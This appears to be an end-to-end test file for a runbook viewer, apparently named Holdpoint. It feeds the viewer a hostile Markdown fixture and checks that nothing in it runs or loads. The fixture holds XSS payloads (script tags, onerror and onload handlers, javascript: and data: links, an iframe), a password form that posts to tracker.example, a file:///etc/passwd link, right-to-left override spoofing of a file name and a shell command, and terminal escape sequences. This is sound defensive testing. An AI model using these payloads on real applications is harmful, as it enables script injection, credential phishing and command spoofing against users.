// Runbooks of somebody who means harm, or of nobody who thought of it, opened and run in the real window.
import { expect, test } from "./holdpoint.ts";
import { act, becomeOperator, expectStep, openRunbook, terminalText } from "./pages.ts";

const HOSTILE = `# Hostile <script>hit("title")</script><img src=x onerror="hit('title image')">

<style>body { display: none !important }</style>
<script>hit("script")</script>

[script](javascript:hit('link')) [data](data:text/html,<script>opener.hit('data')</script>) [file](file:///etc/passwd)

<svg onload="hit('svg')"><script>hit("svg script")</script><a xlink:href="javascript:hit('xlink')"><text y="20">draw</text></a></svg>

<div style="position:fixed;inset:0;z-index:99999" onclick="hit('cover')">covering</div>
<iframe srcdoc="<script>parent.hit('frame')</script>"></iframe>
<form action="https://tracker.example/"><input name="password"><button>Send</button></form>
<details open ontoggle="hit('toggle')"><summary>Summary</summary>inside</details>
<p id="root" class="frame-band production" data-region="action">dressed up</p>

![remote](https://tracker.example/pixel.png)

## ${"Pneumonoultramicroscopicsilicovolcanoconiosis".repeat(6)}

${"x".repeat(100_000)}

Open \u202egnp.exe\u202c now.

\`\`\`sh
printf '\\033]0;owned\\007\\033]8;;javascript:hit(1)\\033\\\\link\\033]8;;\\033\\\\ <script>hit("output")</script> <img src=x onerror=hit(2)>\\n'
echo safe \u202e; echo on\u202c
\`\`\`

- [ ] <img src=x onerror="hit('check')"> see [this](javascript:hit('check-link'))
`;

test("a hostile runbook runs nothing, loads nothing and hides nothing, read or run", async ({ holdpoint }) => {
  const page = await holdpoint.open(await holdpoint.serve());
  const outside: string[] = [];
  page.on("request", (request) => {
    if (new URL(request.url()).host !== new URL(page.url()).host) outside.push(request.url());
  });
  await becomeOperator(page);
  await page.evaluate("window.hits = []; window.hit = (what) => window.hits.push(what)");
  await openRunbook(page, holdpoint.write("hostile.md", HOSTILE));
  const text = page.getByRole("document", { name: /Hostile/ });
  await expect(text.getByText("dressed up")).toBeVisible();
  for (const word of ["script", "data", "file"]) {
    await text.getByText(word, { exact: true }).click();
    expect(page.context().pages()).toHaveLength(1);
  }
  // Nothing covers the window, and no field or button of the text is in it.
  await page.getByRole("button", { name: /Trust this folder/ }).click();
  expect(await text.locator("input, button, iframe, svg a, form").count()).toBe(0);

  await page.getByRole("button", { name: /Start a run/ }).click();
  await expect(page.getByText("Ready to start.")).toBeVisible();
  await page.keyboard.press("ControlOrMeta+Enter");
  // what is read is what runs: a character that turns text round is shown by its name
  const command = page.locator("pre").filter({ hasText: "echo safe" });
  await expect(command).toContainText("echo safe ⟨U+202E⟩; echo on⟨U+202C⟩");
  await act(page, /Run step/, "Enter");
  await expect.poll(() => terminalText(page)).toContain("hit(2)");
  await act(page, /^Confirm/);
  await expectStep(page, "Passed", "Pneumono");

  // no word of the title leaves its column
  const outline = page.getByRole("tree");
  expect(await outline.evaluate((tree) => tree.scrollWidth - tree.clientWidth)).toBeLessThanOrEqual(0);
  expect(await page.evaluate("window.hits")).toEqual([]);
  expect(outside).toEqual([]);
  expect(page.context().pages()).toHaveLength(1);
  await expect(page).toHaveTitle(/Holdpoint/);
});

test("ten thousand steps, a fence that is never closed and a file that is no text open, and say what is wrong", async ({ holdpoint }) => {
  const page = await holdpoint.open(await holdpoint.serve());
  await becomeOperator(page);
  const many = Array.from({ length: 10_000 }, (_, i) => `## Step number ${i + 1}\n\n\`\`\`sh\necho ${i + 1}\n\`\`\`\n`).join("\n");
  for (const [name, content, words] of [
    ["many.md", many, "10,000 steps"],
    ["unclosed.md", "# Unclosed\n\n## A\n\n```sh\necho a\n```\n\n## B\n\n```sh\necho b\n", /This fence is never closed/],
    ["broken.md", "---\ntitle: [never\n---\n\n# Broken\n\n## A\n\n```sh\necho a\n```\n", /front matter|YAML/i],
    ["empty.md", "", "Nothing to run"],
  ] as const) {
    await openRunbook(page, holdpoint.write(name, content));
    await expect(page.getByText(words).first()).toBeVisible();
    await page.getByRole("link", { name: "Library", exact: true }).click();
  }
});
